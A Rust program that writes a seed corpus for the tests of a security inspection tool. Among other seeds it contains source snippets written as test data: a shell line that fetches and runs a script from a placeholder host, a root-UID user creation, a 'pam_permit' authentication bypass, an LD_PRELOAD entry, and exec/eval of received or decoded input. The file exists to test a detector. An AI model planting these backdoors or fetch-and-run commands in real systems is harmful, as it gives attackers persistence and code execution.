//! Writes a first corpus: the sound files that the tests of `inspect` open, a folder for each reader, and what a build
//! says to the network.

use std::fs;
use std::path::{Path, PathBuf};

#[path = "../../crates/inspect/tests/it/corpus.rs"]
#[allow(dead_code, clippy::unwrap_used, reason = "written for tests")]
mod corpus;
/// Small archives, as the tests of `inspect` write them.
#[path = "../../crates/inspect/tests/it/samples.rs"]
#[allow(dead_code, clippy::unwrap_used, reason = "written for tests")]
mod samples;
/// The same for what Apple's systems write.
#[path = "../../crates/inspect/tests/it/samples_apple.rs"]
#[allow(dead_code, clippy::unwrap_used, reason = "written for tests")]
mod samples_apple;
/// Small file systems and disks, likewise.
#[path = "../../crates/inspect/tests/it/samples_disk.rs"]
#[allow(dead_code, clippy::unwrap_used, reason = "written for tests")]
mod samples_disk;

fn main() -> std::io::Result<()> {
    for (number, sound) in corpus::corpus().into_iter().enumerate() {
        fs::write(folder(sound.reader)?.join(format!("sound-{number}")), &sound.bytes)?;
        // The modules of YARA rules read these formats by themselves.
        if ["pe", "authenticode", "elf", "macho"].contains(&sound.reader) {
            fs::write(folder("yara")?.join(format!("sound-{number}")), &sound.bytes)?;
        }
    }
    sources()?;
    egress()?;
    locks()?;
    advisories()
}

/// Sources of which something runs when they are loaded, and manifests. The first byte chooses the name, and is no part of them.
fn sources() -> std::io::Result<()> {
    const SOURCES: &[&str] = &[
        "import subprocess as s, os\ndef f(a=(1,\n2)):\n    \"\"\"https://a.invalid\"\"\"\n    s.run(['x'])  # y\nif __name__ == '__main__':\n    pass\nf()\n",
        "const { exec: e } = require('child_process');\n(async () => { e(`x${y}`) })();\nclass A { async #f(a = {}) { return /[/]/.test(a) } }\nfetch('https://a.invalid')\n",
        "<script src=\"https://a.invalid/x.js\"></script><form action=\"https://b.invalid\">\n",
        "fn main() { Command::new(\"sh\"); } // https://a.invalid\n",
        "{\"main\": \"a.js\", \"bin\": {\"b\": \"c.js\"}, \"dependencies\": {\"d\": \"npm:e@1\"}}",
        "[console_scripts]\na = b:c\n[pytest11]\nd = e\n",
        "#!/bin/sh\nuseradd -o -u 0 x\ndpkg-divert --add /usr/bin/ssh\ncurl -o x https://a.invalid && sh x\n",
        "class A(B):\n    def __init__(self):\n        self.f()\n    def f(self):\n        exec(s.recv(9))\na = A()\nA.f()\n",
        "class A extends B { constructor() { eval(atob(x)) } static f() { } }\nnew A(); A.f()\n",
        "Name: a\nPackage: b\nVersion: 1.2\nRequires-Dist: c>=1\n\n",
        "<dict><key>CFBundleIdentifier</key><string>a</string><key>CFBundleShortVersionString</key><string>1</string></dict>",
        "<package><metadata><id>a</id><version>1.2</version></metadata></package>",
        "{\"name\": \"a\", \"version\": \"1.2\", \"rootfs\": {}, \"config\": {\"Cmd\": [\"a\"], \"User\": \"\", \"Env\": [\"LD_PRELOAD=x\"]}}",
        "[package]\nname = \"a\"\nversion = \"1.2\"\n[dependencies.b]\ngit = \"https://a.invalid\"\n",
        "auth sufficient pam_permit.so\nACTION==\"add\", RUN+=\"/x\"\nurl: https://a.invalid/\n",
    ];
    for (number, source) in SOURCES.iter().enumerate() {
        for first in 0..32_u8 {
            let bytes = [&[first], source.as_bytes()].concat();
            fs::write(folder("content")?.join(format!("source-{number}-{first}")), bytes)?;
        }
    }
    Ok(())
}

fn folder(target: &str) -> std::io::Result<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus").join(target);
    fs::create_dir_all(&folder)?;
    Ok(folder)
}

/// What a build says to the network, for the readers of names.
fn egress() -> std::io::Result<()> {
    let name = b"\x07example\x04test\x00";
    let question =
        [b"\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", name.as_slice(), b"\x00\x01\x00\x01"];
    let server = b"\x00\x00\x00\x11\x00\x0f\x00\x00\x0cexample.test";
    let body = [b"\x03\x03".as_slice(), &[7; 32], b"\x00\x00\x02\x13\x01\x01\x00\x00\x15", server].concat();
    let hello = [b"\x16\x03\x01\x00\x44\x01\x00\x00\x40".as_slice(), &body].concat();
    let seeds: [(&str, &str, Vec<u8>); 4] = [
        ("dns", "question", question.concat()),
        ("hello", "named", hello),
        ("head", "get", b"GET / HTTP/1.1\r\nHost: example.test\r\n\r\n".to_vec()),
        ("head", "connect", b"CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\n\r\n".to_vec()),
    ];
    for (target, name, bytes) in seeds {
        fs::write(folder(target)?.join(name), bytes)?;
    }
    Ok(())
}

/// A manifest and a lock file of each kind; the first byte is the place in the list of pairs.
fn locks() -> std::io::Result<()> {
    let npm = r#"{"dependencies":{"a":"^1.0.0"},"resolutions":{"**/b":"1"}}"#;
    let python = "[project]\ndependencies=[\"a[x]>=1,<2\"]\n[tool.poetry.dependencies]\nb=\"^1\"\n";
    let packages = "[[package]]\nname=\"a\"\nversion=\"1.0\"\n";
    let seeds: [(u8, &str, &str, &str); 8] = [
        (
            0,
            "npm",
            npm,
            r#"{"packages":{"":{"dependencies":{"a":"^1.0.0"}},"node_modules/a":{"version":"1.0.0"}}}"#,
        ),
        (2, "yarn", npm, "\"a@npm:^1.0.0\":\n  version: 1.0.0\n"),
        (
            3,
            "pnpm",
            npm,
            "importers:\n  .:\n    dependencies:\n      a:\n        specifier: ^1.0.0\n        version: 1.0.0(b@1)\n",
        ),
        (4, "cargo", "[dependencies]\na=\"1\"\n", "[[package]]\nname=\"a\"\nversion=\"1.0.0\"\n"),
        (5, "go", "module m\nrequire (\n a.test/x v1.0.0\n)\n", "a.test/x v1.0.0 h1:x=\n"),
        (6, "python", python, packages),
        (9, "ruby", "gem 'a', '~> 1.0'\n", "GEM\n  specs:\n    a (1.0)\n\nDEPENDENCIES\n  a (~> 1.0)\n"),
        (
            11,
            "php",
            r#"{"require":{"a/b":"^1.0 || ~2.1"}}"#,
            r#"{"packages":[{"name":"a/b","version":"v1.0.0"}]}"#,
        ),
    ];
    for (number, name, manifest, lock) in seeds {
        let bytes = [&[number], manifest.as_bytes(), b"\0", lock.as_bytes()].concat();
        fs::write(folder("locks")?.join(name), bytes)?;
    }
    Ok(())
}

/// What the world says: one of each kind of document.
fn advisories() -> std::io::Result<()> {
    let seeds = [
        (
            "osv",
            r#"{"id":"A-1","modified":"2026-01-01T00:00:00Z","aliases":["CVE-1"],"severity":[{"type":"CVSS_V3","score":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],"affected":[{"package":{"ecosystem":"npm","name":"a"},"versions":["1.0.0"],"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"2.0.0"},{"limit":"3"}]},{"type":"GIT","events":[{"introduced":"0"}]}]},{"package":{"ecosystem":"Debian:12","name":"b"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"1"},{"last_affected":"2"}]}]}]}"#,
        ),
        (
            "csaf",
            r#"{"document":{"csaf_version":"2.0","title":"t","publisher":{"name":"p"},"tracking":{"id":"P-1","current_release_date":"2026-01-01T00:00:00Z"}},"product_tree":{"branches":[{"category":"product_version_range","name":"vers:npm/<2","product":{"product_id":"P","product_identification_helper":{"purl":"pkg:npm/a"}}}],"full_product_names":[{"product_id":"W","product_identification_helper":{"purl":"pkg:oci/w"}}],"relationships":[{"product_reference":"P","relates_to_product_reference":"W","full_product_name":{"product_id":"PW"}}]},"vulnerabilities":[{"cve":"CVE-1","product_status":{"known_affected":["P"],"known_not_affected":["PW"]},"flags":[{"label":"x","product_ids":["PW"]}],"scores":[{"cvss_v3":{"vectorString":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}}]}]}"#,
        ),
        (
            "openvex",
            r#"{"@context":"https://openvex.dev/ns/v0.2.0","@id":"u","timestamp":"2026-01-01T00:00:00Z","statements":[{"vulnerability":{"name":"CVE-1"},"status":"not_affected","justification":"x","products":[{"@id":"pkg:oci/w","subcomponents":[{"@id":"pkg:npm/a"}]},{"@id":"pkg:npm/a@1"}]}]}"#,
        ),
        (
            "cyclonedx",
            r#"{"bomFormat":"CycloneDX","components":[{"bom-ref":"r","purl":"pkg:npm/a@1"}],"vulnerabilities":[{"id":"CVE-1","analysis":{"state":"not_affected","justification":"x"},"affects":[{"ref":"r"}]}]}"#,
        ),
        (
            "signed",
            r#"{"payloadType":"application/json","payload":"eyJAY29udGV4dCI6Im9wZW52ZXgifQ==","signatures":[{"sig":"AAEC"}]}"#,
        ),
        ("list", "2026-01-02T00:00:00Z,A-2\n2026-01-01T00:00:00Z,A-1\n"),
        (
            "kev",
            r#"{"catalogVersion":"1","vulnerabilities":[{"cveID":"CVE-2021-44228","dateAdded":"2021-12-10"}]}"#,
        ),
        ("epss", "#m\ncve,epss,percentile\nCVE-2021-44228,0.94,0.99\n"),
        ("vers", "vers:npm/>=1.0.0|<2.0.0"),
        ("purl", "pkg:npm/%40s/a@1.0.0?vers=x#y"),
        ("versions", "1.0.0-rc.1+b\n1:2.0~x"),
    ];
    for (name, text) in seeds {
        fs::write(folder("advisories")?.join(name), text)?;
    }
    Ok(())
}
